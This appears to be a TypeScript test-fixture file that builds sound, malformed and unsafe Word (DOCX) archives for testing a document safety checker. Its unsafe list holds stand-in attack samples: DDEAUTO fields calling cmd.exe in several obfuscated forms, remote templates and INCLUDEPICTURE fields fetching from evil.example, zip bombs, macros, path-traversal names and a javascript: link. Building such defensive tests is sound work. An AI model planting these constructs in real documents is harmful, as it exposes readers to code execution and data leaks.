import { type ZipFile, zip } from './zip.ts'

const at = new Date('2026-11-21')
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const CONTENT_TYPES = '<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>'

type Parts = Readonly<Record<string, string | Buffer>>

const filesOf = (parts: Parts): ZipFile[] =>
  Object.entries(parts).map(([name, content]) => ({ name, content: Buffer.from(content), at }))

/** A Word document with these parts, besides or in place of the two mandatory ones. */
const docxOf = (parts: Parts = {}): Buffer =>
  zip(filesOf({ '[Content_Types].xml': CONTENT_TYPES, 'word/document.xml': '<document/>', ...parts }))

const MEGABYTE = 1024 * 1024
/** A document that unpacks to so many bytes, by a part that fills it up. */
const filled = (name: string, bytes: number): Buffer =>
  docxOf({ [name]: Buffer.alloc(bytes - CONTENT_TYPES.length - '<document/>'.length, 32) })

const relationship = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="${RELATIONSHIPS}/${type}" Target="${target}" ${mode}/></Relationships>`

const RELS = 'word/_rels/document.xml.rels'
const withRels = (rels: string | Buffer) => docxOf({ [RELS]: rels })

/** A run of a field: where it begins, what it is to do, where what it shows begins, and where it ends. */
const run = (content: string) => `<w:r>${content}</w:r>`
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
const does = (...pieces: string[]) =>
  pieces.map((one) => run(`<w:instrText xml:space="preserve">${one}</w:instrText>`)).join('')
const shown = (text: string) => mark('separate') + run(`<w:t>${text}</w:t>`) + mark('end')
const field = (instruction: string, text = '1') => mark('begin') + instruction + shown(text)
const simple = (instruction: string) => `<w:fldSimple w:instr='${instruction}'><w:r><w:t>1</w:t></w:r></w:fldSimple>`
const withText = (text: string, name = 'document') =>
  docxOf({ [`word/${name}.xml`]: `<w:document>${text}</w:document>` })

/** Documents as Word makes them. */
export const SOUND_DOCX: readonly (readonly [string, Buffer])[] = [
  ['nothing but its text', docxOf()],
  ['links to pages and addresses', withRels(relationship('hyperlink', 'https://www.linkedin.com/in/x?a=1&amp;b=2'))],
  ['a link to an address', withRels(relationship('hyperlink', 'mailto:ana@example.com'))],
  ['a link without a scheme', withRels(relationship('hyperlink', 'linkedin.com/in/x'))],
  ['pictures of its own', withRels(relationship('image', 'media/image1.png', ''))],
  ['just as much text as is read', filled('word/x.xml', 12 * MEGABYTE)],
  ['just as much of everything as is unpacked', filled('word/media/x.emf', 50 * MEGABYTE)],
  ['a picture that unpacks to much', docxOf({ 'word/media/image1.png': Buffer.alloc(20 * 1024 * 1024) })],
  [
    'page numbers, dates and references',
    withText(field(does(' PAGE ')) + field(does('DATE \\@ "d"')) + simple('NUMPAGES')),
  ],
  [
    'a table of contents',
    withText(field(does('TOC \\o "1-3"'), `</w:t>${field(does(' HYPERLINK \\l "a" '), 'LINK')}<w:t>`)),
  ],
  [
    'fields among what a field is to do',
    withText(field(does(' IF ') + field(does('PAGE')) + does('= 1 "DDE" "LINK" '))),
  ],
  ['a page number that is counted', withText(field(does('=') + field(does('PAGE')) + does('-1')))],
  [
    'texts that read like fields',
    withText(run('<w:t>DDEAUTO cmd &lt;w:fldChar/> INCLUDEPICTURE "http://x.example"</w:t>')),
  ],
  ['what other programs keep with it', docxOf({ 'customXml/item1.xml': Buffer.from('\uFEFF<a>DDE</a>', 'utf16le') })],
  ['a section in that', docxOf({ 'customXml/item2.xml': '<a><![CDATA[b]]></a>' })],
  ['the table of a chart', docxOf({ 'word/embeddings/Sheet1.xlsx': docxOf() })],
]

const patched = (change: (bytes: Buffer, directory: number) => void, parts: Parts = {}): Buffer => {
  const bytes = docxOf(parts)
  // The last directory entry, whose local header is the last, too.
  change(bytes, bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])))
  return bytes
}
const renamed = (from: string, to: string): Buffer =>
  Buffer.from(
    docxOf({ [from]: 'x' })
      .toString('latin1')
      .replaceAll(from, to),
    'latin1',
  )
const LAST = { 'word/x.xml': Buffer.alloc(MEGABYTE, 32) }
const local = (bytes: Buffer, directory: number) => bytes.readUInt32LE(directory + 42)

/** Archives that no real program writes. */
export const BROKEN_DOCX: readonly (readonly [string, Buffer])[] = [
  ...['../x.xml', 'a/../../x', '/etc/passwd', 'C:/x.xml', 'a\\..\\x', 'a//x', './x', '%2e%2e/x', 'a\u0000b'].map(
    (name) => [`the name ${JSON.stringify(name)}`, docxOf({ [name]: 'x' })] as const,
  ),
  ['a link of a file system', patched((bytes, entry) => bytes.writeUInt32LE(0xa1ff0000, entry + 38), LAST)],
  ['a part that is there twice', renamed('word/document.xmm', 'word/document.xml')],
  ['a part that is there twice, in capitals', docxOf({ 'WORD/Document.XML': 'x' })],
  ['an encrypted part', patched((bytes, entry) => bytes.writeUInt16LE(1, entry + 8), LAST)],
  ['a part with another name inside', patched((bytes, entry) => bytes.write('y', local(bytes, entry) + 35), LAST)],
  ['two parts in the same bytes', patched((bytes, entry) => bytes.writeUInt32LE(0, entry + 42), LAST)],
  ['an archive inside', docxOf({ 'word/media/image1.png': docxOf() })],
  ['archives inside archives', docxOf({ 'word/embeddings/a.xlsx': docxOf({ 'word/embeddings/b.xlsx': docxOf() }) })],
  ['thousands of parts', docxOf(Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`word/${n}.xml`, ''])))],
  ['no document', zip(filesOf({ '[Content_Types].xml': CONTENT_TYPES }))],
  ['nothing', Buffer.alloc(0)],
  ['its end cut off', docxOf().subarray(0, -1)],
  ['its beginning cut off', docxOf().subarray(10)],
  ['something before it', Buffer.concat([Buffer.from('PK\u0003\u0004 before'), docxOf()])],
  ['something behind it', Buffer.concat([docxOf(), Buffer.from('behind')])],
]

/** Documents that would execute or fetch something, or exhaust their reader. */
export const UNSAFE_DOCX: readonly (readonly [string, string, Buffer])[] = [
  ['text that unpacks to too much', 'size', filled('word/x.xml', 12 * MEGABYTE + 1)],
  ['parts that unpack to too much', 'size', filled('word/media/x.emf', 50 * MEGABYTE + 1)],
  [
    'many parts that unpack to too much',
    'size',
    docxOf(Object.fromEntries(Array.from({ length: 13 }, (_, n) => [`word/${n}.xml`, Buffer.alloc(MEGABYTE, 32)]))),
  ],
  [
    'a part that is larger than it says',
    'size',
    patched((bytes, entry) => {
      bytes.writeUInt32LE(100, entry + 24)
      bytes.writeUInt32LE(100, local(bytes, entry) + 22)
    }, LAST),
  ],
  [
    'an inner table that unpacks to too much',
    'size',
    docxOf({ 'word/embeddings/a.xlsx': docxOf({ 'xl/media/x.emf': Buffer.alloc(51 * MEGABYTE) }) }),
  ],
  ['macros', 'programs', docxOf({ 'word/vbaProject.bin': 'x' })],
  [
    'macros under another name',
    'programs',
    docxOf({ '[Content_Types].xml': '<a ContentType="x.ms-office.vbaProject"/>' }),
  ],
  [
    'the type of a document with macros',
    'programs',
    docxOf({ '[Content_Types].xml': '<a b="x.macro&#69;nabled.main"/>' }),
  ],
  ['an ActiveX control', 'programs', docxOf({ 'word/activeX/activeX1.bin': 'x' })],
  ['an embedded object', 'programs', docxOf({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['macros in an inner table', 'programs', docxOf({ 'word/embeddings/a.xlsx': docxOf({ 'xl/vbaProject.bin': 'x' }) })],
  ['a template from a server', 'links', withRels(relationship('attachedTemplate', 'https://evil.example/a.dotm'))],
  ['a template from a share', 'links', withRels(relationship('attachedTemplate', 'file://evil.example/a.dotm'))],
  ['a picture from elsewhere', 'links', withRels(relationship('image', 'http://evil.example/a.png'))],
  ['an object from elsewhere', 'links', withRels(relationship('oleObject', 'file:///C:/x.xls'))],
  [
    'a picture that a field fetches',
    'links',
    withText(field(does(' INCLUDEPICTURE "http://evil.example/a.png" \\d '))),
  ],
  ['a text that a footer fetches', 'links', withText(simple('INCLUDETEXT "\\\\\\\\evil.example\\\\x"'), 'footer1')],
  ['a field for another program', 'links', withText(field(does('DDE', 'AUTO c:\\\\windows\\\\cmd.exe')))],
  ['the same without a result', 'links', withText(mark('begin') + does('&#68;deauto cmd'))],
  ['the same as a text', 'links', withText(field(run('<w:t>DDEAUTO</w:t>') + does(' cmd')))],
  ['the same in quotes', 'links', withText(field(does(' "DDEAUTO" cmd')))],
  ['the same behind another field', 'links', withText(field(does(' IF ') + field(does('DDE cmd')) + does(' = 1')))],
  ['a field that another one names', 'links', withText(field(field(does('QUOTE 68 68 69')) + does(' cmd')))],
  ['a field that another one ends', 'links', withText(field(does('DD') + field(does('QUOTE 69')) + does(' cmd')))],
  ['a field under another prefix', 'links', withText(field(does('DDE cmd')).replaceAll('w:', 'x.y:'))],
  ['entities in its text', 'links', docxOf({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><document/>' })],
  [
    'text among what other programs keep',
    'links',
    docxOf({ 'customXml/item1.xml': Buffer.from('\uFEFF<a xmlns="x/wordprocessing&#109;l/main"/>', 'utf16le') }),
  ],
  ['a field in a section', 'links', withText('<w:instrText><![CDATA[DDE]]></w:instrText>')],
  [
    'a document under another name',
    'links',
    docxOf({
      '[Content_Types].xml':
        '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    }),
  ],
  ['a page of the web inside', 'programs', withRels(relationship('aFChunk', 'a.mht', ''))],
  ['an object under another name', 'programs', withRels(relationship('oleObject', 'media/a.dat', ''))],
  ['a link to a file', 'links', withRels(relationship('hyperlink', 'file:///C:/x'))],
  ['a link to a share', 'links', withRels(relationship('hyperlink', '\\\\evil.example\\x'))],
  ['a link that is a script', 'links', withRels(relationship('hyperlink', 'java&#x09;script:alert(1)'))],
  [
    'what is elsewhere in other words',
    'links',
    withRels(relationship('image', 'http://x.example', "TargetMode='&#69;xternal'")),
  ],
  ['what is elsewhere behind a bracket', 'links', withRels(relationship('image', 'http://x.example/>'))],
  [
    'what is elsewhere between comments',
    'links',
    withRels(
      `<Relationships><!-- <Relationship a=" -->${relationship('image', 'http://x.example')}<!-- "> --></Relationships>`,
    ),
  ],
  ['entities', 'links', withRels('<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>')],
  ['another encoding', 'links', withRels(Buffer.from(`\uFEFF${relationship('image', 'http://x.example')}`, 'utf16le'))],
]
